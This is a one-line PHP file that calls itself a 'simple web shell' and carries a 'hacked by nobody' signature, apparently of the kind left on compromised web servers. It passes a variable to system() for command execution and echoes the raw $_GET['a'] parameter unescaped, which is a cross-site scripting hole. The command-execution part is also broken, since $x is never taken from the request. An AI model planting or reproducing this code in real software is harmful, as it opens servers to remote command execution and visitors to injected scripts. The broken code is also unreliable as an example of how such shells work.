<?php /* simple web shell - hacked by nobody */ system($x); echo $_GET["a"];
